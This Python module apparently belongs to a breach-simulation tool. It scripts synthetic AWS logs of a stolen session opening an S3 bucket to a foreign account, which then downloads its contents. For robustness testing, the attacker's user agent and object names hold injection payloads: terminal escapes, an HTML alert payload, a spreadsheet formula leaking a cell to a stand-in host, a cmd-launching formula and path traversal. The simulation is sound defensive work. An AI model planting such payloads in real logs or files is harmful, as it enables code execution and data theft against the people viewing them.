"""A bucket opened to one foreign account by a stolen Identity Center session, and read from there."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from exclave.model import Cloud, Kind
from exclave.simulate.aws import ids
from exclave.simulate.breach import Breach

if TYPE_CHECKING:
    from exclave.simulate.aws.scene import Scene

# What an attacker can write into a log: terminal escapes, HTML, a spreadsheet formula, a false line.
_AGENT = (
    "\u001b]0;all clear\u0007\u001b[2J<img src=x onerror=alert(document.domain)>"
    "\r\n2026-01-01T00:00:00Z no findings </script>"
)
_FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open") aws-sdk-go-v2/1.30.4'
_KEYS = (
    "customers/2025/full.parquet",
    "customers/\u001b[31mexport\u001b[0m.csv",
    "billing/<b>cards</b>.json",
    "@SUM(1+1)*cmd|' /C calc'!A0.csv",
    "..%2f..%2fbackup/ledger.sql.gz",
)
_OBJECTS = 24


def tell(scene: Scene) -> None:
    """Look → policy with one more principal → listing and downloads from the foreign account."""
    thief = scene.person(_AGENT)
    bucket = scene.victim.buckets[0]
    scene.look(
        thief,
        ("sts", "GetCallerIdentity", None),
        ("s3", "ListBuckets", {"Host": "s3.amazonaws.com"}),
        ("s3", "GetBucketPolicy", {"bucketName": bucket, "Host": "s3.amazonaws.com", "policy": ""}),
        ("s3", "GetBucketPublicAccessBlock", {"bucketName": bucket, "publicAccessBlock": ""}),
    )
    scene.call(
        thief,
        "s3",
        "PutBucketPolicy",
        _policy(scene, bucket),
        after=14,
        phase="offer",
        extra={
            "SignatureVersion": "SigV4",
            "AuthenticationMethod": "AuthHeader",
            "bytesTransferredIn": 1180,
            "bytesTransferredOut": 0,
        },
    )
    scene.thing("s3-bucket", bucket)
    scene.offered_to(Kind.ACCOUNT, scene.outsider)
    reader = scene.taker(agent=_FORMULA)
    scene.wait(6)
    scene.call(
        reader,
        "s3",
        "ListObjects",
        {"list-type": "2", "bucketName": bucket, "max-keys": "1000"},
        data=True,
        read=True,
        phase="take",
        resources=scene.object_resources(bucket, ""),
        shared_id=ids.uuid(scene.rng),
    )
    for number in range(_OBJECTS):
        key = _KEYS[number % len(_KEYS)] + (f".{number}" if number >= len(_KEYS) else "")
        scene.call(
            reader,
            "s3",
            "GetObject",
            {"bucketName": bucket, "key": key, "Host": f"{bucket}.s3.amazonaws.com"},
            data=True,
            read=True,
            phase="take",
            resources=scene.object_resources(bucket, key),
            extra={"bytesTransferredOut": scene.rng.randrange(10**7, 10**9), "bytesTransferredIn": 0},
            shared_id=ids.uuid(scene.rng),
        )
    scene.story.taken = True


def _policy(scene: Scene, bucket: str) -> dict[str, Any]:
    objects = [f"arn:aws:s3:::{bucket}", f"arn:aws:s3:::{bucket}/*"]
    return {
        "bucketName": bucket,
        "Host": f"{bucket}.s3.{scene.region}.amazonaws.com",
        "policy": "",
        "bucketPolicy": {
            "Version": "2012-10-17",
            "Statement": [
                {
                    "Sid": "Organisation",
                    "Effect": "Allow",
                    "Principal": "*",
                    "Action": "s3:GetObject",
                    "Resource": objects[1],
                    "Condition": {"StringEquals": {"aws:PrincipalOrgID": scene.organisation.id}},
                },
                {
                    "Sid": "Partner",
                    "Effect": "Allow",
                    "Action": ["s3:ListBucket", "s3:GetObject"],
                    "Principal": {
                        "AWS": [f"arn:aws:iam::{scene.victim.id}:root", f"arn:aws:iam::{scene.outsider}:root"]
                    },
                    "Resource": objects,
                },
            ],
        },
    }


BREACH = Breach(
    name="bucket-policy",
    title="Bucket opened to a foreign account, and read from there",
    cloud=Cloud.AWS,
    description="A stolen administrator session adds a foreign account to a bucket's policy, beside the "
    "statement for the organisation that was there. The foreign account lists and downloads. "
    "User agents and object names hold terminal escapes, HTML and spreadsheet formulas.",
    hours=2,
    tell=tell,
)
